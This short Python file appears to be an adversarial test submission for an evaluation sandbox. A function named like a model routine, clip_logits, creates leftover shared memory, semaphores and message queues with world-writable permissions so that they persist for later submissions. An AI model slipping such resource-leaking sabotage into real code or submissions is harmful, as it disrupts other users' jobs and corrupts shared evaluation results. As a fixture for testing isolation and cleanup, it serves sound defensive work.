"""Leaves shared memory, semaphores and queues for the next submission to trip over."""

import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)
from multiprocessing import shared_memory


def clip_logits(backbone, video):
    try:
        kept = shared_memory.SharedMemory("efficientlab_attack", create=True, size=1 << 20)
        kept.buf[:4] = b"LEAK"
    except OSError:
        pass
    LIBC.shmget(0x1234, 1 << 20, 0o1666)
    LIBC.semget(0x1234, 1, 0o1666)
    LIBC.msgget(0x1234, 0o1666)
    return None
